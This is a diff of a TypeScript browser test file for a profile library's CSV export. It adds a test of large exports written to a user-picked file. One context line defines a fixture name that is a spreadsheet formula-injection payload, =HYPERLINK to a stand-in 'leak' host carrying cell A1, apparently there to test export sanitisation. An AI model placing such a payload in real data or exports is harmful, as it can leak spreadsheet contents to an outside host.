@@ -8,7 +8,7 @@ import { type CsvPreset, csvPresetNames } from '../../../utils/export/csv-preset
 import { exportAs, type Saving, saveInto } from '../harness/downloads.ts';
 import { fetchPerson, openLibrary, openPerson, seesCount } from '../harness/library.ts';
 import { shareWorld } from '../harness/shared-world.ts';
-import { fill, find, goodKey, press } from '../harness/world.ts';
+import { fill, find, goodKey, press, pressExport } from '../harness/world.ts';
 
 const maya = 'Maya Lindqvist';
 const edgar = '=HYPERLINK("https://elsewhere.example/?leak="&A1,"Edgar Formula")';
@@ -175,3 +175,48 @@ test('exporting a search exports the profiles found', async () => {
   const { profiles }: Exported = JSON.parse(text);
   expect(profiles.map(({ slug }) => slug)).toEqual(['maya-lindqvist']);
 });
+
+test('a large export is written by the worker to the file that the user picks', async () => {
+  const library = await openLibrary(shared());
+  await library.evaluate(multiply, 1_000);
+  await library.reload();
+  await seesCount(library, 1_003);
+  // nb. No script can answer the browser's own question.
+  await library.evaluate(() => {
+    const folder = navigator.storage.getDirectory();
+    const pick = async () => (await folder).getFileHandle('picked.csv', { create: true });
+    Object.assign(globalThis, { showSaveFilePicker: pick });
+  });
+  await pressExport(library);
+  await press(library, 'Save file');
+  await find(library, 'button', 'Close');
+  const text = await library.evaluate(async () => {
+    const folder = await navigator.storage.getDirectory();
+    const file = await (await folder.getFileHandle('picked.csv')).getFile();
+    return file.text();
+  });
+  const slugs = readCsv(text).rows.map(({ Slug }) => Slug);
+  expect(slugs).toHaveLength(1_003);
+  expect(slugs.slice(0, 3)).toEqual(['tomas-okafor', 'edgar-formula', 'maya-lindqvist']);
+  await library.close();
+});
+
+/** In the page: adds `count` people who are like Maya, but were fetched before her. */
+async function multiply(count: number): Promise<void> {
+  const opening = indexedDB.open('calling-card');
+  await new Promise((resolve) => opening.addEventListener('success', resolve));
+  const db = opening.result;
+  const tx = db.transaction(['profiles', 'summaries'], 'readwrite');
+  for (const name of tx.objectStoreNames) {
+    const store = tx.objectStore(name);
+    const reading = store.get('maya-lindqvist');
+    reading.onsuccess = () => {
+      for (let n = 1; n <= count; n += 1) {
+        const row = reading.result;
+        store.put({ ...row, slug: `maya-${n}`, fetchedAt: row.fetchedAt - n });
+      }
+    };
+  }
+  await new Promise((resolve) => tx.addEventListener('complete', resolve));
+  db.close();
+}
